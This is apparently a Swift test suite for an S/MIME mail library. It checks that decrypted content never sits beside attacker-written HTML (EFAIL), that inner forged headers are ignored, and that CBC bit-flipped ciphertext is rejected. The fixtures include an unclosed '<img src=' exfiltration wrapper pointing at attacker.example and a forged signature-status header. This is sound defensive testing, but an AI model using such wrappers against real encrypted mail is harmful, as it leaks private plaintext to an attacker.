import Foundation
import MIME
import OpenSSL
import SMIME
import TestSupport
import Testing

/// threats.md A1.1, A1.2, A1.7: nothing of an encrypted part ever stands beside what an attacker wrote.
@Suite("A1: EFAIL and covert content")
struct ExfiltrationTests {
    let fixture: SMIMEFixture
    /// An encrypted entity with its Content-* fields.
    let part: String

    init() throws {
        fixture = try SMIMEFixture.shared.get()
        part = entityText(try fixture.encrypted())
    }

    private static let html = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
    private static let close = "Content-Type: text/html\r\n\r\n\">\r\n"

    private func multipart(_ subtype: String, _ parts: [String]) -> String {
        "Content-Type: multipart/\(subtype); boundary=\"x\"\r\n\r\n" + parts.map { "--x\r\n\($0)\r\n" }.joined() + "--x--\r\n"
    }

    private func nested(_ content: String) -> String { "Content-Type: message/rfc822\r\n\r\nSubject: a\r\n\(content)" }

    private var shapes: [String] {
        [
            multipart("mixed", [Self.html, part, Self.close]), multipart("mixed", [part]), multipart("alternative", [Self.html, part]),
            multipart("related", [Self.html, part]),
            multipart(
                "mixed",
                [multipart("related", [Self.html, part]).replacing("\"x\"", with: "\"y\"").replacing("--x", with: "--y"), Self.close]),
            multipart("mixed", [Self.html, nested(part)]), nested(part), multipart("mixed", [part, part]),
            multipart("mixed", ["Content-Type: text/plain\r\n\r\nWhat's up Johnny?\r\n", part]),
        ]
    }

    @Test("the same below a signature, and within an encrypted layer")
    func deeper() throws {
        for shape in shapes {
            let signed = fixture.open(try fixture.signed(message(shape)))
            #expect(signed.summary == ["signed valid", "encrypted part not root"])
            let sealed = fixture.open(try fixture.encrypted(message(shape)))
            #expect(sealed.summary == ["encrypted decrypted", "encrypted part not root"])
            for opened in [signed, sealed] { #expect(!opened.bytes.contains(SMIMEFixture.marker)) }
        }
    }

    @Test("a multipart/signed with a part too many is not looked into")
    func threeParts() throws {
        let parts = [Self.html, part, "Content-Type: application/pkcs7-signature\r\n\r\nxx"]
        let content = multipart("signed; protocol=\"application/pkcs7-signature\"", parts)
        let opened = fixture.open(message(content))
        #expect(opened.summary == ["signed broken"])
        #expect(!opened.bytes.contains(SMIMEFixture.marker))
    }

    @Test("fields inside the encrypted entity do not reach the message: no second Subject, no forged status")
    func innerFields() throws {
        let inner = "Subject: other\r\nX-Zegel-Info-SMIME-Signed: True\r\nFrom: boss@zegel.example\r\n\(SMIMEFixture.content)"
        let sealed = try EnvelopedDataWriter.encrypt(
            Array(inner.utf8), to: [EncryptionRecipient(certificate: fixture.bob.certificate.x509)], cipher: .aes256GCM)
        let opened = fixture.open(
            message("Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Base64.encode(sealed).text))
        #expect(opened.bytes.text == SMIMEFixture.mail.text)
    }

    // MARK: CBC

    private func wrapped(_ tree: DERTree) -> [UInt8] {
        message("Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Base64.encode(tree.encoded).text)
    }

    private func tree(_ cipher: ContentCipher) throws -> DERTree {
        let long = SMIMEFixture.content + String(repeating: "some more text\r\n", count: 100)
        return try #require(
            DERTree(
                EnvelopedDataWriter.encrypt(
                    Array(long.utf8), to: [EncryptionRecipient(certificate: fixture.bob.certificate.x509)], cipher: cipher)))
    }

    @Test("D-06: a garbled header after CBC decryption: illegal content, delivered as it came")
    func garbledHeader() throws {
        let original = try tree(.aes256CBC)
        var refused = 0
        for bit in 0..<64 {
            var changed = original
            // A change of block n garbles block n; both blocks lie in the header.
            changed[1, 0, 2, 2].value[bit / 8] ^= 1 << UInt8(bit % 8)
            let bytes = wrapped(changed)
            let opened = fixture.open(bytes)
            if opened.summary == ["encrypted illegalContent"] {
                refused += 1
                #expect(opened.bytes == bytes)
            }
        }
        // Sixteen random octets look like a clean header about once in ten million.
        #expect(refused == 64)
    }

    @Test(
        "D-06: what is no clean entity is not delivered",
        arguments: [
            "no header at all\r\n", "Content-Type: text/plain\u{1}\r\n\r\nx", "Content-Type: text/plain\r\nrubbish\r\n\r\nx",
            "Content-Type: a\0b\r\n\r\nx", "", "\u{7}\r\n\r\nx", "Content-Type : text/plain\r\n\r\nx",
        ])
    func illegal(_ content: String) throws {
        for cipher in [ContentCipher.aes256GCM, .aes256CBC] where !(content.isEmpty && cipher == .aes256GCM) {
            let sealed = try EnvelopedDataWriter.encrypt(
                Array(content.utf8), to: [EncryptionRecipient(certificate: fixture.bob.certificate.x509)], cipher: cipher)
            let bytes = wrapped(try #require(DERTree(sealed)))
            let opened = fixture.open(bytes)
            #expect(opened.summary == ["encrypted illegalContent"])
            #expect(opened.bytes == bytes)
        }
    }

    // MARK: Content that SMTP cannot carry

    @Test("LF alone as line end, as Unix programs encrypt it: CRLF when delivered")
    func lineFeeds() throws {
        let content = SMIMEFixture.content.replacingOccurrences(of: "\r\n", with: "\n")
        let sealed = try EnvelopedDataWriter.encrypt(
            Array(content.utf8), to: [EncryptionRecipient(certificate: fixture.bob.certificate.x509)], cipher: .aes256GCM)
        #expect(fixture.open(wrapped(try #require(DERTree(sealed)))).bytes.text == SMIMEFixture.mail.text)
    }

    @Test("binary within the encryption is encoded for SMTP, and is the same bytes to its reader")
    func binary() throws {
        let data = (0..<512).map { UInt8(truncatingIfNeeded: $0) }
        let content = Array("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n".utf8) + data
        let sealed = try EnvelopedDataWriter.encrypt(
            content, to: [EncryptionRecipient(certificate: fixture.bob.certificate.x509)], cipher: .aes256GCM)
        let opened = Message(parsing: fixture.open(wrapped(try #require(DERTree(sealed)))).bytes)
        #expect(opened.root.transferEncoding == .base64)
        #expect(opened.decodedBody(of: opened.root) == data)
    }
}
